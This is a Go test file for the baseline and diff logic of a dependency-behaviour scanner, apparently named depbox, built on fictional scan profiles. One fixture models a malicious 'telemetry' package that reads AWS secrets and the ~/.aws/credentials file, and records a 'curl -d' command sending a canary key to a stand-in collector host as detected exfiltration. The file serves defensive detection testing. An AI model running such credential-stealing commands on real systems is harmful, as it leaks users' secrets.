package baseline

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/depbox/depbox/profile"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// golden compares got with testdata/name, rewriting it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (run go test -update after checking):\n--- got\n%s\n--- want\n%s", name, got, want)
	}
}

// scan returns the profile of a fictional bundle as run number run would
// record it: temp names, pids, canary values and the order of lists change
// from run to run, the behaviour does not.
func scan(run int) *profile.Profile {
	tmp := []string{"Ab3xYz", "Qq9RtU", "zz81Kp"}[run%3]
	pid := 100 + run*7
	canary := []string{"AKIAIOSFODNN7EXAMPLE", "AKIA2EXAMPLE7NNDOFSO", "AKIAZZZZEXAMPLE12345"}[run%3]
	deps := []profile.Dependency{
		{
			Name: "left-pad", Version: "1.3.0", Path: "node_modules/left-pad",
			Phases: map[string]*profile.Behavior{
				profile.PhaseImport: {Outcome: &profile.Outcome{Status: "ok"}, Files: []profile.File{
					{Path: "/var/task/node_modules/left-pad/index.js", Access: "read"},
				}},
				profile.PhaseInvoke: {},
			},
		},
		{
			Name: "telemetry", Version: "2.0.1", Path: "node_modules/telemetry", InstallScripts: []string{"postinstall"},
			Phases: map[string]*profile.Behavior{
				profile.PhaseInstall: {
					Outcome:   &profile.Outcome{Status: "ok"},
					Processes: []profile.Process{{Argv: []string{"sh", "-c", "node setup.js"}, Binary: "/bin/sh", Result: "ok"}},
					Files: []profile.File{
						{Path: fmt.Sprintf("/tmp/telemetry-%s/state.json", tmp), Access: "write"},
						{Path: fmt.Sprintf("/proc/%d/status", pid), Access: "read"},
					},
				},
				profile.PhaseInvoke: {
					Env: []string{"AWS_REGION", "AWS_SECRET_ACCESS_KEY", "AWS_REGION"},
					Network: []profile.Endpoint{
						{Address: fmt.Sprintf("10.53.0.%d", run+2), Port: 443, Protocol: "tcp", Host: "collector.example.invalid", Result: "ok"},
						{Address: "192.0.2.10", Port: 443, Protocol: "tcp", Result: "ECONNREFUSED"},
					},
					DNS:          []profile.DNSQuery{{Name: "collector.example.invalid", Type: "A"}},
					Capabilities: []string{"network", "eval"},
					Processes:    []profile.Process{{Argv: []string{"curl", "-d", canary, "https://collector.example.invalid/"}, Binary: "/usr/bin/curl", Result: "ENOENT"}},
					Exfiltration: []profile.Exfil{{Canary: "AWS_ACCESS_KEY_ID", Channel: "argv", Destination: "curl", Encoding: "raw"}},
					Unattributed: &profile.Behavior{Files: []profile.File{{Path: "/home/sbx_user/.aws/credentials", Access: "read", Failed: run%2 == 0}}},
				},
			},
		},
		{
			Name: "left-pad", Version: "1.1.0", Path: "node_modules/telemetry/node_modules/left-pad",
			Phases: map[string]*profile.Behavior{profile.PhaseImport: {Outcome: &profile.Outcome{Status: "error", ExitCode: 1, Error: "ERR_REQUIRE_ESM"}}},
		},
	}
	if run%2 == 1 {
		deps[0], deps[2] = deps[2], deps[0]
		inv := deps[1].Phases[profile.PhaseInvoke]
		inv.Network[0], inv.Network[1] = inv.Network[1], inv.Network[0]
	}
	return &profile.Profile{
		Schema: profile.Schema,
		Tool:   profile.Tool{Name: "depbox", Version: fmt.Sprintf("dev-%d", run)},
		Bundle: profile.Bundle{Name: "orders-fn", Digest: fmt.Sprintf("sha256:%064d", run), Runtime: "nodejs", RuntimeVersion: "v20.20.2", Handler: "index.handler"},
		App: &profile.Dependency{Name: "orders-fn", Path: "", Phases: map[string]*profile.Behavior{
			profile.PhaseInvoke: {Env: []string{"TABLE_NAME"}},
		}},
		Dependencies: deps,
	}
}

func encode(t *testing.T, b *Baseline) []byte {
	t.Helper()
	data, err := b.Encode()
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestFromProfileGolden(t *testing.T) {
	golden(t, "baseline.golden.json", encode(t, FromProfile(scan(0))))
}

func TestDeterministic(t *testing.T) {
	first := encode(t, FromProfile(scan(0)))
	for run := 1; run < 6; run++ {
		if got := encode(t, FromProfile(scan(run))); !bytes.Equal(got, first) {
			t.Fatalf("run %d gives a different baseline:\n%s\nwant\n%s", run, got, first)
		}
	}
	for _, secret := range []string{"AKIA", "10.53.0."} {
		if bytes.Contains(first, []byte(secret)) {
			t.Errorf("baseline holds run-specific value %q", secret)
		}
	}
}

func TestReadRoundTrip(t *testing.T) {
	want := encode(t, FromProfile(scan(0)))
	b, err := Read(bytes.NewReader(want))
	if err != nil {
		t.Fatal(err)
	}
	if got := encode(t, b); !bytes.Equal(got, want) {
		t.Errorf("round trip changed the baseline:\n%s", got)
	}
}

func TestReadErrors(t *testing.T) {
	tests := []struct {
		name, in string
		is       error
		msg      string
	}{
		{"empty", "", ErrNotBaseline, "regenerate"},
		{"truncated", `{"schema": "depbox.baseline/v1", "dependencies": [`, ErrNotBaseline, "regenerate"},
		{"array", `[1,2]`, ErrNotBaseline, ""},
		{"no schema", `{"dependencies": []}`, ErrNotBaseline, "no schema field"},
		{"profile", `{"schema": "depbox.profile/v1"}`, ErrNotBaseline, "is it a profile"},
		{"future", `{"schema": "depbox.baseline/v2", "whatever": 1}`, ErrFutureSchema, "upgrade depbox"},
		{"bad version", `{"schema": "depbox.baseline/vX"}`, ErrNotBaseline, "unknown schema"},
		{"unknown field", `{"schema": "depbox.baseline/v1", "dependencies": [], "extra": true}`, ErrNotBaseline, "extra"},
		{"wrong type", `{"schema": "depbox.baseline/v1", "dependencies": {}}`, ErrNotBaseline, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Read(strings.NewReader(tt.in))
			if !errors.Is(err, tt.is) {
				t.Fatalf("Read: %v, want %v", err, tt.is)
			}
			if !strings.Contains(err.Error(), tt.msg) {
				t.Errorf("error %q does not say %q", err, tt.msg)
			}
		})
	}
}

func TestReadFileMissing(t *testing.T) {
	_, err := ReadFile(filepath.Join(t.TempDir(), FileName))
	if !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("ReadFile of a missing file: %v, want ErrNotExist", err)
	}
}

// upgraded is scan(0) after an update: left-pad 1.3.0 → 1.3.1 adds a DNS
// query, telemetry drops its install script, a dependency is added and the
// nested left-pad is removed.
func upgraded() *profile.Profile {
	p := scan(0)
	p.Dependencies[0].Version = "1.3.1"
	p.Dependencies[0].Phases[profile.PhaseInvoke] = &profile.Behavior{
		DNS:     []profile.DNSQuery{{Name: "stats.example.invalid", Type: "A"}},
		Network: []profile.Endpoint{{Address: "10.53.0.9", Host: "stats.example.invalid", Port: 443, Protocol: "tcp"}},
	}
	p.Dependencies[1].InstallScripts = nil
	delete(p.Dependencies[1].Phases, profile.PhaseInstall)
	p.Dependencies = p.Dependencies[:2]
	p.Dependencies = append(p.Dependencies, profile.Dependency{
		Name: "@acme/uuid", Version: "9.0.0", Path: "node_modules/@acme/uuid",
		Phases: map[string]*profile.Behavior{profile.PhaseImport: {Files: []profile.File{{Path: "/dev/urandom", Access: "read"}}}},
	})
	return p
}

func TestDiffGolden(t *testing.T) {
	c := Diff(FromProfile(scan(0)), FromProfile(upgraded()))
	var text, js bytes.Buffer
	if err := c.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	if err := c.WriteJSON(&js); err != nil {
		t.Fatal(err)
	}
	golden(t, "diff.golden.txt", text.Bytes())
	golden(t, "diff.golden.json", js.Bytes())
}

func TestDiff(t *testing.T) {
	old := FromProfile(scan(0))
	tests := []struct {
		name                    string
		old, new                *Baseline
		added, removed, changed int
	}{
		{"same", old, FromProfile(scan(3)), 0, 0, 0},
		{"no old", nil, old, 4, 0, 0},
		{"upgrade", old, FromProfile(upgraded()), 1, 1, 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c := Diff(tt.old, tt.new)
			if len(c.Added) != tt.added || len(c.Removed) != tt.removed || len(c.Changed) != tt.changed {
				t.Errorf("added/removed/changed = %d/%d/%d, want %d/%d/%d", len(c.Added), len(c.Removed), len(c.Changed), tt.added, tt.removed, tt.changed)
			}
			if c.Empty() != (tt.added+tt.removed+tt.changed == 0) {
				t.Errorf("Empty() = %v", c.Empty())
			}
		})
	}
	c := Diff(old, FromProfile(upgraded()))
	got := c.AddedItems("left-pad", "node_modules/left-pad", profile.PhaseInvoke)
	want := []Item{{Kind: KindNetwork, Value: "connect tcp stats.example.invalid:443"}, {Kind: KindDNS, Value: "stats.example.invalid A"}}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("AddedItems = %v, want %v", got, want)
	}
}
